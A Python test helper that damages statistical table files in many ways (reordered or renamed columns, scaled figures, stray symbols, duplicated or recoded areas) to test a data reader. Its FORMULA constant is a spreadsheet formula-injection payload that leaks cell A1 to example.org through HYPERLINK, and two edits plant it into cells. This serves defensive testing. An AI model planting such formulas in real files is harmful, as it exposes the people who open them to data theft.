"""Changes of the cells of a table: columns, rows, figures and areas.

What belongs here: an edit of rows in memory, whichever format they came from, and `edited`, which makes files of edits.
Changes of the periods are in `periods`, of whole files in `whole_files`.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from copy import deepcopy

from sources.reading.files import words
from tests.damage.good_files import TOWER_HAMLETS
from tests.damage.tables import (
    DoesNotApplyError,
    Layout,
    Rows,
    as_number,
    columns_of,
    figures_of,
    header_of,
    like,
    read_tables,
    rows_of,
    sheets_of,
    write_tables,
)

Columns = tuple[str | int, ...]
Edit = Callable[[Layout, Rows], None]
"""Changes the rows of one table with figures."""

Spoil = Callable[[Layout, bytes], Iterator[bytes]]
"""The bad files that are made of a good one: damage may do its worst in several ways."""

FORMULA = '=HYPERLINK("http://example.org/?leak="&A1,"click")'
NEITHER_NUMBER_NOR_SYMBOL = ("†", "12.3p", "NaN", "1e999", "١٢", "5–9")
"""What no publisher writes for a figure."""


def edited(*edits: Edit) -> Spoil:
    """Damage that changes the cells of every table with figures, in one of several ways."""

    def spoil(layout: Layout, good: bytes) -> Iterator[bytes]:
        before = read_tables(layout, good)
        for edit in edits:
            tables = deepcopy(before)
            for name in sheets_of(layout, tables):
                edit(layout, tables[name])
            if tables == before:
                raise DoesNotApplyError("the file has nothing of the kind")
            yield write_tables(layout, tables, good)

    return spoil


# --- columns ---


def reversed_columns(_: Layout, rows: Rows) -> None:
    for row in rows:
        row.reverse()


def rotated_columns(_: Layout, rows: Rows) -> None:
    for row in rows:
        row.append(row.pop(0))


def renamed(columns: Callable[[Layout], Columns], which: int = -1) -> Edit:
    """One of some columns has another name; in JSON, another last part of its name."""

    def edit(layout: Layout, rows: Rows) -> None:
        header = rows[header_of(layout, rows)]
        indices = columns_of(layout, rows, columns(layout))
        if not indices:
            return
        parts = str(header[indices[which]]).split(".") if layout.format == "json" else [""]
        header[indices[which]] = ".".join([*parts[:-1], "renamed"])

    return edit


def with_new_column(at: int | None, name: str = "new_column") -> Edit:
    def edit(layout: Layout, rows: Rows) -> None:
        header = header_of(layout, rows)
        for index, row in enumerate(rows):
            cell = name if index == header else 17.5 if layout.is_workbook else "17.5"
            row.insert(len(row) if at is None else at, cell if index >= header else "")

    return edit


def with_doubled_column(*, first: bool) -> Edit:
    def edit(layout: Layout, rows: Rows) -> None:
        for column in columns_of(layout, rows, layout.values)[-1:]:
            for row in rows[header_of(layout, rows) :]:
                number = as_number(row[column])
                again = row[column] if number is None else like(row[column], number * 1.5)
                row.insert(column if first else len(row), again)
            for row in rows[: header_of(layout, rows)]:
                row.insert(column if first else len(row), "")

    return edit


# --- rows ---


def without_rows(layout: Layout, rows: Rows) -> None:
    """The header and nothing under it."""
    del rows[header_of(layout, rows) + 1 :]


def with_title_row(_: Layout, rows: Rows) -> None:
    rows.insert(0, ["Published by the ministry", *[""] * (len(rows[0]) - 1)])


def with_empty_row(layout: Layout, rows: Rows) -> None:
    at = header_of(layout, rows) + 1
    rows.insert(at, [""] * len(rows[0]))


# --- figures ---


def scaled(factor: float, columns: Callable[[Layout], Columns]) -> Edit:
    def edit(layout: Layout, rows: Rows) -> None:
        for index, column in list(figures_of(layout, rows, columns(layout))):
            cell = rows[index][column]
            rows[index][column] = like(cell, float(cell) * factor)

    return edit


def values(layout: Layout) -> Columns:
    """The columns of figures."""
    return layout.values


def when(layout: Layout) -> Columns:
    """The columns that say when."""
    return layout.periods or ((layout.wide,) if layout.wide else ())


def percents(layout: Layout) -> Columns:
    if not layout.percents:
        raise DoesNotApplyError("the file has no percentages")
    return layout.percents


def as_fractions(layout: Layout) -> Columns:
    if layout.fractions:
        raise DoesNotApplyError("the publisher writes fractions")
    return percents(layout)


def as_percentages(layout: Layout) -> Columns:
    if not layout.fractions:
        raise DoesNotApplyError("the publisher writes percentages")
    return percents(layout)


def amounts(layout: Layout) -> Columns:
    """Counts, pounds and tonnes."""
    if layout.percents == layout.values:
        raise DoesNotApplyError("the file has percentages only")
    return layout.values


def separated(mark: str) -> Edit:
    def edit(layout: Layout, rows: Rows) -> None:
        for index, column in list(figures_of(layout, rows, layout.values)):
            number = float(rows[index][column])
            if abs(number) >= 1000:
                rows[index][column] = f"{number:,.10g}".replace(",", mark)

    return edit


def with_symbol(symbol: str) -> Edit:
    def edit(layout: Layout, rows: Rows) -> None:
        about = rows_of(layout, rows, our_area(layout))
        cells = [(i, c) for i, c in figures_of(layout, rows, layout.values) if i in about]
        for index, column in cells[-1:] if cells else []:
            rows[index][column] = symbol

    return edit


def with_formula(layout: Layout, rows: Rows) -> None:
    for column in columns_of(layout, rows, (layout.text,)) if layout.text else []:
        rows[rows_of(layout, rows, our_area(layout))[-1]][column] = FORMULA


def with_formula_as_area(layout: Layout, rows: Rows) -> None:
    for index in rows_of(layout, rows, our_area(layout))[-1:]:
        for column, cell in enumerate(rows[index]):
            if words(cell) in layout.areas[our_area(layout)]:
                rows[index][column] = f"={cell}"


# --- areas ---


def our_area(layout: Layout) -> str:
    """Tower Hamlets, or the first area of a file that has no row for it."""
    return TOWER_HAMLETS if TOWER_HAMLETS in layout.areas else next(iter(layout.areas))


def without_area(area: str) -> Edit:
    def edit(layout: Layout, rows: Rows) -> None:
        for index in reversed(rows_of(layout, rows, area) if area in layout.areas else []):
            del rows[index]

    return edit


def area_again(factor: float) -> Edit:
    def edit(layout: Layout, rows: Rows) -> None:
        again = [list(rows[index]) for index in rows_of(layout, rows, our_area(layout))]
        first = len(rows)
        rows += again
        for index, column in list(figures_of(layout, rows, layout.values)):
            if index >= first:
                rows[index][column] = like(rows[index][column], float(rows[index][column]) * factor)

    return edit


def area_renamed(layout: Layout, rows: Rows) -> None:
    if not layout.names:
        raise DoesNotApplyError("the file has no name beside a code")
    for index in rows_of(layout, rows, our_area(layout)):
        for column, cell in enumerate(rows[index]):
            if cell == layout.names[our_area(layout)]:
                rows[index][column] = "Royal Borough of Tower Hamlets"


def area_recoded(layout: Layout, rows: Rows) -> None:
    for index in rows_of(layout, rows, our_area(layout)):
        for column, cell in enumerate(rows[index]):
            if words(cell) == layout.areas[our_area(layout)][0]:
                rows[index][column] = "E09000099" if words(cell).startswith("E") else "Poplar"
